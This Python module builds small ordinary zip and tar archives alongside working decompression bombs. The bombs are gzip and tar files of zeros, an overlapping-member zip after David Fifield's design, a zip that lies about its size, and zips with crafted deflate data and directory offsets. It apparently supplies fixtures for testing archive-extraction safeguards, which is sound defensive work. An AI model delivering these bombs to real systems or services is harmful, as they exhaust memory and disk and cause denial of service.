"""Archives that are made to harm whoever unpacks them, and small honest ones. Not a test."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping

MEGABYTE = 1 << 20


def zip_of(files: Mapping[str, bytes]) -> bytes:
    """Return a zip of some files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def tar_of(files: Mapping[str, bytes], *, mode: str = "w:gz") -> bytes:
    """Return a tar of some files, packed as `mode` says."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def zeros(megabytes: int) -> bytes:
    """Return a gzip of so many megabytes of zeros, in about a thousandth of their size."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as file:
        for _ in range(megabytes):
            file.write(bytes(MEGABYTE))
    return out.getvalue()


def tar_of_zeros(megabytes: int) -> bytes:
    """Return a tgz with one member of so many megabytes of zeros."""
    member = tarfile.TarInfo("zeros")
    member.size = megabytes * MEGABYTE
    head = member.tobuf()
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as file:
        file.write(head)
        for _ in range(megabytes):
            file.write(bytes(MEGABYTE))
    return out.getvalue()


def overlapping(members: int) -> bytes:
    """Return a zip whose members all are the same packed bytes, as in David Fifield's bombs."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packed.compress(bytes(MEGABYTE)) + packed.flush()
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(kernel), MEGABYTE, 1, 0
    )
    body = local + b"a" + kernel
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        *(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0, len(kernel), MEGABYTE, 1, 0, 0, 0, 0, 0, 0),
    )
    directory = (entry + b"a") * members
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, members & 0xFFFF, members & 0xFFFF,
        len(directory), len(body), 0,
    )  # fmt: skip
    return body + directory + end


def liar() -> bytes:
    """Return a zip whose member says that it has one byte, and unpacks to many megabytes."""
    data = bytearray(zip_of({"a": bytes(40 * MEGABYTE)}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(data)


def packed_as(packed: bytes, *, offset: int = 0, extra: bytes = b"") -> bytes:
    """Return a zip of one member, whose deflated bytes are these whatever they are.

    `offset` and `extra` are what its directory says of where it lies.
    """
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(packed), 0, 1, 0)
    body = local + b"a" + packed
    directory = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        *(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0, len(packed), 0, 1, len(extra), 0, 0, 0, 0),
        offset,
    )
    directory += b"a" + extra
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end
